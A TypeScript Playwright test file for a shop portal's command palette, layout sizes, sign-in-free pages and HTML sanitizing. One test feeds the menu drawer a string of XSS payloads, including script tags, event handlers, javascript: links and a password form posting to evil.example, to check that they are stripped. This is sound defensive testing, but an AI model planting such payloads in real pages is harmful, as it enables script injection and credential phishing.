import type { Page } from 'playwright-core';
import { describe, expect, inject, it } from 'vitest';
import { beyond, findings } from '../harness/axe.ts';
import { pathOf, useBrowser, windows } from '../harness/browser.ts';
import { withOptions } from '../harness/content.ts';
import { quiet } from '../harness/quiet.ts';

const { visit } = useBrowser();

const widths = ['desk', 'phone'] as const;
const palette = (page: Page) => page.getByRole('dialog', { name: 'Go to' });
const field = (page: Page) => page.getByRole('combobox', { name: 'Go to' });
const home = async (page: Page): Promise<void> => {
  await page.getByRole('heading', { level: 1 }).waitFor();
  await quiet(page);
};

async function openPalette(page: Page, window: 'desk' | 'phone' = 'desk'): Promise<void> {
  await home(page);
  if (window === 'desk') {
    await page.keyboard.press('Control+k');
  } else {
    await page.getByRole('button', { name: 'Menu', exact: true }).click();
    await page.getByRole('button', { name: 'Go to…' }).click();
  }
  await page.waitForFunction(() => document.activeElement?.getAttribute('role') === 'combobox');
}

describe('going anywhere', () => {
  it.each(widths)('axe finds nothing serious in it, and it fits the window (%s)', async (window) => {
    const { page, complaints } = await visit({ as: 'buyer', window });
    await openPalette(page, window);
    expect([await findings(page), await beyond(page)]).toEqual([[], 0]);
    await field(page).fill('oak');
    await palette(page).getByRole('group', { name: 'Items' }).waitFor();
    expect([await findings(page), await beyond(page)]).toEqual([[], 0]);
    const { width } = (await palette(page).boundingBox())!;
    expect(width).toBe(window === 'phone' ? windows.phone.width : 600);
    expect(complaints).toEqual([]);
  });

  it('is fetched when it is opened, not before', async () => {
    const { page } = await visit({ as: 'buyer' });
    const scripts = () =>
      page.evaluate(() => performance.getEntriesByType('resource').filter(({ name }) => /palette/.test(name)).length);
    await home(page);
    expect(await scripts()).toBe(0);
    await openPalette(page);
    expect(await scripts()).toBeGreaterThan(0);
  });

  it('opens an order by its number with the keyboard alone, and leads there', async () => {
    const { page } = await visit({ as: 'buyer' });
    await openPalette(page);
    await page.keyboard.type('500001');
    await palette(page)
      .getByRole('option', { name: /Order 500001/ })
      .waitFor();
    await page.keyboard.press('Enter');
    await page.getByRole('heading', { name: 'Order 500001' }).waitFor();
    expect(pathOf(page)).toBe('/account/orders/500001');
    await palette(page).waitFor({ state: 'detached' });
    await page.waitForFunction(() => document.activeElement?.id === 'page');
  });

  it('loses no key that is typed before it is here, and opens the cart', async () => {
    const { page } = await visit({ as: 'buyer' });
    await home(page);
    const { promise: released, resolve: release } = Promise.withResolvers<void>();
    await page.route(/palette-layout/, async (route) => {
      await released;
      await route.continue();
    });
    await page.keyboard.press('Control+k');
    await page.keyboard.type('cart');
    await page.keyboard.press('Enter');
    release();
    await page.getByRole('dialog', { name: /^Cart/ }).waitFor();
    await page.keyboard.press('Escape');
    await page.waitForFunction(
      () => document.querySelector('[role="dialog"]') === null && document.activeElement?.id === 'page',
    );
  });

  it('opens an item in a new tab with Ctrl Enter', async () => {
    const { page, context } = await visit({ as: 'buyer' });
    await openPalette(page);
    await page.keyboard.type('HPK-7048-NAT');
    await palette(page)
      .getByRole('option', { name: /HPK-7048-NAT/ })
      .waitFor();
    const [opened] = await Promise.all([context.waitForEvent('page'), page.keyboard.press('Control+Enter')]);
    await opened.getByRole('heading', { name: /Heritage Plank Oak, Natural/ }).waitFor();
    expect(await palette(page).isVisible()).toBe(true);
  });

  it('gives the focus back where it was', async () => {
    const { page } = await visit({ as: 'buyer' });
    await home(page);
    await page.getByRole('combobox', { name: 'Search items' }).focus();
    await page.keyboard.press('Control+k');
    await palette(page).waitFor();
    await page.keyboard.press('Escape');
    await palette(page).waitFor({ state: 'detached' });
    await page.waitForFunction(() => document.activeElement?.getAttribute('aria-label') === 'Search items');
  });
});

describe('sizes of the specification', () => {
  it.each([['desk'], ['tablet']] as const)('S-065 the search field is 250 to 300 px wide (%s)', async (window) => {
    const { page } = await visit({ as: 'buyer', window });
    await home(page);
    const { width } = (await page.getByRole('search', { name: 'Search items' }).boundingBox())!;
    expect(width).toBeGreaterThanOrEqual(250);
    expect(width).toBeLessThanOrEqual(300);
  });

  it.each(['es', 'fr-CA'] as const)(
    'a cart of six figures keeps the bar of a tablet within the window (%s)',
    async (language) => {
      const { page } = await visit({ as: 'buyer', window: 'tablet' });
      await page.setViewportSize({ width: 800, height: 1180 });
      await page.route('**/cart/getitems*', async (route) => {
        const answer = await route.fetch();
        const cart = (await answer.json()) as { amountList: { name: string; amount: number }[] };
        const amountList = cart.amountList.map((one) => (one.name === 'total' ? { ...one, amount: 888_888.88 } : one));
        await route.fulfill({ response: answer, json: { ...cart, amountList } });
      });
      await page.evaluate((wanted) => localStorage.setItem('language', wanted), language);
      await page.reload();
      await page.getByRole('banner').getByText('$888,888.88').waitFor();
      const bar = page.getByRole('banner');
      const right = (await bar.getByRole('button', { name: /Carrito|Panier/ }).boundingBox())!;
      const edge = await bar.evaluate(
        (one) => one.getBoundingClientRect().right - parseFloat(getComputedStyle(one).paddingInlineEnd),
      );
      expect(right.x + right.width).toBeLessThanOrEqual(edge + 0.5);
      expect(await beyond(page)).toBe(0);
    },
  );

  it('S-394 S-393 S-392 up to 1399 px there is the side drawer, from 1400 px the row of menus', async () => {
    const { page } = await visit({ as: 'buyer' });
    await home(page);
    const shown = async (width: number) => {
      await page.setViewportSize({ width, height: 900 });
      return [
        await page.getByRole('button', { name: 'Open the menu' }).isVisible(),
        await page.getByRole('button', { name: 'Products' }).isVisible(),
      ];
    };
    expect(await shown(1399)).toEqual([true, false]);
    expect(await shown(1400)).toEqual([false, true]);
  });

  it('S-396 dialogs are at most 500 or 600 px wide', async () => {
    const { page } = await visit({ as: 'buyer' });
    await home(page);
    const widthOf = async (name: RegExp): Promise<number> => {
      const dialog = page.getByRole('dialog', { name });
      await dialog.waitFor();
      const { width } = (await dialog.boundingBox())!;
      await page.keyboard.press('Escape');
      await dialog.waitFor({ state: 'detached' });
      return width;
    };
    await page
      .getByRole('banner')
      .getByRole('button', { name: /Change customer/ })
      .click();
    const customers = await widthOf(/Change Customers/);
    await page
      .getByRole('banner')
      .getByRole('button', { name: /Delivering To|Pickup Location/ })
      .click();
    const delivery = await widthOf(/Change Delivery Method/);
    await page.getByRole('banner').getByRole('button', { name: /^Cart/ }).click();
    await page.getByRole('dialog', { name: 'Cart' }).getByRole('button', { name: /Edit/ }).first().click();
    await page.getByRole('button', { name: 'Update', exact: true }).waitFor();
    const line = (await page
      .getByRole('dialog')
      .filter({ has: page.getByRole('button', { name: 'Update', exact: true }) })
      .last()
      .boundingBox())!.width;
    for (const width of [customers, delivery, line]) expect([500, 600]).toContain(width);
  });

  it('S-046 the table of customers is at most 600 px high, in a window of any height, with 400 of them too', async () => {
    const { page } = await visit({ as: 'multi' });
    await page.setViewportSize({ width: 1440, height: 2000 });
    await home(page);
    await page
      .getByRole('banner')
      .getByRole('button', { name: /Change customer/ })
      .click();
    const table = page.getByRole('group', { name: 'Your customers' });
    await table.getByRole('radio').nth(100).waitFor();
    const height = async () => (await table.boundingBox())!.height;
    expect(await height()).toBe(600);
    await page.setViewportSize({ width: 390, height: 844 });
    expect(await height()).toBeLessThanOrEqual(600);
    expect(await beyond(page)).toBe(0);
  });

  it('S-397 the focus in a dialog is set 200 ms after it opens', async () => {
    const { page } = await visit({ as: 'multi' });
    await home(page);
    await page.evaluate(() => {
      const seen = { opened: 0, focused: 0 };
      Object.assign(window, { seen });
      new MutationObserver(() => {
        if (seen.opened === 0 && document.querySelector('[role="dialog"]') !== null) seen.opened = performance.now();
      }).observe(document.body, { childList: true, subtree: true });
      document.addEventListener('focusin', ({ target }) => {
        if ((target as HTMLElement).matches('[role="dialog"] input[type="search"]')) seen.focused ||= performance.now();
      });
    });
    await page
      .getByRole('banner')
      .getByRole('button', { name: /Change customer/ })
      .click();
    await page.waitForFunction(() => document.activeElement?.matches('[role="dialog"] input[type="search"]'));
    const { opened, focused } = await page.evaluate(
      () => (window as unknown as { seen: { opened: number; focused: number } }).seen,
    );
    expect(focused - opened).toBeGreaterThanOrEqual(180);
    expect(focused - opened).toBeLessThan(1500);
  });

  it('S-461 S-460 a phone has the search, and a way back on every page but home', async () => {
    const { page } = await visit({ as: 'buyer', window: 'phone' });
    await home(page);
    expect(await page.getByRole('button', { name: 'Back' }).count()).toBe(0);
    const search = page.getByRole('combobox', { name: 'Search items' });
    await search.fill('walnut');
    await search.press('Enter');
    await page.waitForFunction(() => location.hash.startsWith('#/items'));
    expect(pathOf(page)).toContain('search=walnut');
    await page.getByRole('button', { name: 'Back' }).click();
    await page.waitForFunction(() => location.hash === '#/');
  });
});

describe('what the content writes', () => {
  const hostile = `<p>Open <b>until noon</b></p><script>window.hacked=1</script><img src="x" onerror="window.hacked=2" alt="">
    <style>body{display:none}</style><form action="https://evil.example"><input name="password"><button>Send</button></form>
    <a href="javascript:window.hacked=3">bad link</a><a href="/#/items">good link</a><iframe src="javascript:parent.hacked=4"></iframe>
    <svg onload="window.hacked=5"><script>window.hacked=6</script></svg><p style="position:fixed;inset:0" id="page" onclick="window.hacked=7">covers</p>`;

  it('S-360 S-391 the html_snippet of the drawer runs nothing, asks for nothing and styles nothing', async () => {
    const { page } = await visit({ as: 'buyer' });
    await withOptions(page, { drawer: { html_snippet: hostile }, appbar: { Layout: 'Legacy' } });
    await home(page);
    // The layout style Legacy has the drawer at every width.
    await page.getByRole('button', { name: 'Open the menu' }).click();
    const drawer = page.getByRole('dialog', { name: 'Menu' });
    const snippet = drawer.locator('div:has(> p > b)', { hasText: 'until noon' }).last();
    await snippet.waitFor();
    await drawer.getByText('covers').click();
    await drawer.getByText('bad link').click();
    const found = await snippet.evaluate((element) => ({
      tags: [...new Set([...element.querySelectorAll('*')].map(({ tagName }) => tagName.toLowerCase()))].sort(),
      links: [...element.querySelectorAll('a')].map((link) => link.getAttribute('href')),
      attributes: [...element.querySelectorAll('*')]
        .flatMap((one) => one.getAttributeNames())
        .filter((name) => name.startsWith('on') || name === 'style' || name === 'id'),
      shown: getComputedStyle(document.body).display,
      hacked: (window as unknown as { hacked?: number }).hacked,
    }));
    expect(found).toEqual({
      tags: ['a', 'b', 'img', 'p'],
      links: [null, '/#/items'],
      attributes: [],
      shown: 'block',
      hacked: undefined,
    });
  });
});

describe('pages without a sign-in', () => {
  it.each(widths)(
    'S-389 S-390 S-455 axe finds nothing serious in them, and they fit the window (%s)',
    async (window) => {
      const { page, complaints } = await visit({ window, at: '/auth' });
      for (const path of ['/#/auth', '/#/unsupported', '/#/hostedpaymentsreturn', '/unsupported']) {
        await page.goto(`${inject('base')}${path}`);
        await quiet(page);
        expect({ path, findings: await findings(page), beyond: await beyond(page) }).toEqual({
          path,
          findings: [],
          beyond: 0,
        });
      }
      expect(complaints).toEqual([]);
    },
  );

  it.each(widths)('S-390 the payments return says that there is none, to who is signed in (%s)', async (window) => {
    const { page } = await visit({ as: 'buyer', window, at: '/hostedpaymentsreturn' });
    await page.getByRole('heading', { name: 'No payment is on its way' }).waitFor();
    expect([await findings(page), await beyond(page)]).toEqual([[], 0]);
    await page.getByRole('link', { name: 'Go to the home page' }).click();
    await page.getByRole('heading', { name: /Good (morning|afternoon|evening), Dana/ }).waitFor();
  });

  it('S-456 S-455 old Internet Explorer sees a page without a script instead of the portal', async () => {
    const { context } = await visit();
    const page = await context.newPage();
    const client = await context.newCDPSession(page);
    await client.send('Network.setUserAgentOverride', {
      userAgent: 'Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko',
      acceptLanguage: 'es',
    });
    await page.goto(`${inject('base')}/#/items`);
    await page.getByRole('heading', { name: 'Este navegador es demasiado antiguo' }).waitFor();
    expect(new URL(page.url()).pathname).toBe('/unsupported');
    expect(await page.locator('script').count()).toBe(0);
    // Its name kept secret, the portal's own guard knows it all the same.
    const guarded = await context.newPage();
    await guarded.addInitScript(() =>
      Object.defineProperty(navigator, 'userAgent', {
        get: () => 'Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1)',
      }),
    );
    await guarded.goto(`${inject('base')}/#/items`);
    await guarded.getByRole('heading', { name: 'This browser is too old' }).waitFor();
    expect(pathOf(guarded)).toBe('/unsupported');
  });

  it('S-389 the cookie banner stands below the empty layout until it is answered', async () => {
    const { page, context } = await visit({ at: '/auth' });
    await context.clearCookies({ name: 'cookieConsent' });
    await page.reload();
    const banner = page.getByRole('region', { name: 'Cookies' });
    await banner.waitFor();
    expect(await findings(page)).toEqual([]);
    await banner.getByRole('button', { name: 'Accept' }).click();
    await banner.waitFor({ state: 'detached' });
    expect(await page.getByRole('contentinfo').getByRole('link').allTextContents()).toEqual([
      'Terms',
      'Privacy Policy',
      'Cookies Consent',
    ]);
  });
});
